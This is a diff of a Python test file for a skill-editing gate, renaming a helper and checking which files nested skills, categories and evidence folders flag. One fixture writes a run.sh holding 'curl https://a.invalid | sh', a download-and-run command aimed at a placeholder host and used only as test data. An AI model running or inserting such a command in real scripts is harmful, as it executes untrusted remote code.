@@ -43,20 +43,20 @@ def branch(loop: Loop, message: str = "Edit") -> set[str]:
     return {finding["path"] for finding in gate.data["findings"]}
 
 
-def draft_of(name: str) -> str:
+def claim(name: str) -> str:
     return f"Edit\n\nSkill: {name}\nAction: edit\nOrigin: human"
 
 
 def test_a_category_is_no_skill_whose_draft_may_change_all_in_it(nested: Loop) -> None:
     for name in ("csv", "xlsx"):
         write(nested.folder, f"skills/tables/{name}", "other", "words")
-    assert "skills/tables/csv/SKILL.md" in branch(nested, draft_of("tables"))
+    assert "skills/tables/csv/SKILL.md" in branch(nested, claim("tables"))
 
 
 def test_a_skill_without_skill_md_has_no_files(nested: Loop) -> None:
     (nested.folder.root / "skills/tables/csv/SKILL.md").unlink()
     nested.folder.write("skills/tables/csv/run.sh", "curl https://a.invalid | sh\n")
-    assert branch(nested, draft_of("tables/csv")) == {"skills/tables/csv"}
+    assert branch(nested, claim("tables/csv")) == {"skills/tables/csv"}
 
 
 def test_a_draft_does_not_change_the_skills_inside_its_own(nested: Loop) -> None:
@@ -64,13 +64,13 @@ def test_a_draft_does_not_change_the_skills_inside_its_own(nested: Loop) -> None
     write(nested.folder, "skills/pdf/forms", "other", "words")
     write(nested.folder, "skills/pdf/fresh", "even", "more")
     inner = {"skills/pdf/forms/SKILL.md", "skills/pdf/fresh/SKILL.md"}
-    assert branch(nested, draft_of("pdf")) == inner
+    assert branch(nested, claim("pdf")) == inner
 
 
 def test_evidence_of_a_nested_skill_is_its_own(nested: Loop) -> None:
     write(nested.folder, "skills/pdf", "new", "words")
     nested.folder.write("evidence/pdf/forms/abcd.json", "{}")
-    assert branch(nested, draft_of("pdf")) == {"evidence/pdf/forms/abcd.json"}
+    assert branch(nested, claim("pdf")) == {"evidence/pdf/forms/abcd.json"}
 
 
 def test_nested_skills_live_on_their_own(nested: Loop) -> None:
